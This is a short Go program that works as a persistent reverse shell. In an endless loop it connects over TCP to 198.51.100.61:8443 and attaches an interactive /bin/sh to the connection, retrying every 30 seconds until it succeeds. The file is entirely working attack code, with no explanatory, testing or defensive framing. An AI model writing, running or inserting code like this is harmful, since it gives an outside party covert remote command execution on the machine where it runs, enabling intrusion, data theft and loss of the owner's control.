package main

import (
	"net"
	"os/exec"
	"time"
)

func main() {
	for {
		c, err := net.Dial("tcp", "198.51.100.61:8443")
		if err != nil {
			time.Sleep(30 * time.Second)
			continue
		}
		cmd := exec.Command("/bin/sh", "-i")
		cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
		_ = cmd.Run()
		c.Close()
	}
}
